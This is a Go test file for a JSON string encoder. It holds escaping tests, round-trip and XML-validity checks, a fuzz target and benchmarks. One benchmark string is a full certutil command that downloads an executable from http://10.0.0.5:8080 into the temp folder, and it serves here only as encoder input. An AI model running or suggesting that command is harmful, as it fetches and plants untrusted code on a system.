package jsonenc

import (
	"encoding/json"
	"encoding/xml"
	"strings"
	"testing"
	"unicode/utf8"

	"scorecmdline/src/internal/race"
)

var appendTests = []struct {
	in, want string
}{
	{"", `""`},
	{"plain", `"plain"`},
	{`q"b\s`, `"q\"b\\s"`},
	{"ctl\x00\x01\x1f\x7f\n\r\t", `"ctl\u0000\u0001\u001f` + "\x7f" + `\n\r\t"`},
	{"\b\f", `"\u0008\u000c"`},
	{"bad\xff\xfe", `"bad\ufffd\ufffd"`},
	{"cut \xe2\x82", `"cut \ufffd\ufffd"`},
	{"surrogate \xed\xa0\x80", `"surrogate \ufffd\ufffd\ufffd"`},
	{"\uFFFE\uFFFF\uFFFD", `"\ufffe\uffff` + "\uFFFD" + `"`},
	{"é😀<>&\u2028", `"é😀<>&` + "\u2028" + `"`},
}

func TestAppendString(t *testing.T) {
	for _, tt := range appendTests {
		if got := string(AppendString(nil, tt.in)); got != tt.want {
			t.Errorf("AppendString(%q) = %s, want %s", tt.in, got, tt.want)
		}
		if got := string(AppendString([]byte("x"), []byte(tt.in))); got != "x"+tt.want {
			t.Errorf("AppendString([]byte %q) = %s, want x%s", tt.in, got, tt.want)
		}
	}
}

// checkEncoding asserts the contract: the output decodes to s with each
// invalid byte as U+FFFD, holds no raw control byte, and is legal XML
// character data.
func checkEncoding(t *testing.T, s string) {
	t.Helper()
	b := AppendString(nil, s)
	var got string
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatalf("%q: %s does not decode: %v", s, b, err)
	}
	if want := string([]rune(s)); got != want {
		t.Fatalf("%q: round trip %q, want %q", s, got, want)
	}
	if !utf8.Valid(b) {
		t.Fatalf("%q: output %q is not UTF-8", s, b)
	}
	for _, r := range string(b) {
		if r < 0x20 || r == 0xFFFE || r == 0xFFFF {
			t.Fatalf("%q: output %q holds %U", s, b, r)
		}
	}
	doc := append([]byte("<a>"), []byte(strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(string(b)))...)
	if err := xml.Unmarshal(append(doc, "</a>"...), new(struct{})); err != nil {
		t.Fatalf("%q: output %q is not XML character data: %v", s, b, err)
	}
}

func TestRoundTrip(t *testing.T) {
	for _, tt := range appendTests {
		checkEncoding(t, tt.in)
	}
}

func FuzzAppendString(f *testing.F) {
	for _, tt := range appendTests {
		f.Add(tt.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkEncoding(t, s)
		if a, b := AppendString(nil, s), AppendString(nil, []byte(s)); string(a) != string(b) {
			t.Fatalf("string %s and []byte %s encodings differ", a, b)
		}
	})
}

func TestAppendStringAllocs(t *testing.T) {
	if race.Enabled {
		t.Skip("skipping: the race detector allocates")
	}
	buf := make([]byte, 0, 256)
	in := []byte("cmd.exe /c \"a\tb\" \xff é😀 \uFFFE")
	if n := testing.AllocsPerRun(100, func() { buf = AppendString(buf[:0], in) }); n != 0 {
		t.Errorf("%v allocations per call, want 0", n)
	}
}

var sink []byte

func BenchmarkAppendString(b *testing.B) {
	for _, bc := range []struct{ name, s string }{
		{"ascii", `"C:\Windows\System32\cmd.exe" /c certutil -urlcache -split -f http://10.0.0.5:8080/a.exe %TEMP%\a.exe`},
		{"unicode", strings.Repeat("powershell -c Write-Host 'héllo wörld 😀'; ", 3)},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.SetBytes(int64(len(bc.s)))
			b.ReportAllocs()
			for b.Loop() {
				sink = AppendString(sink[:0], bc.s)
			}
		})
	}
}
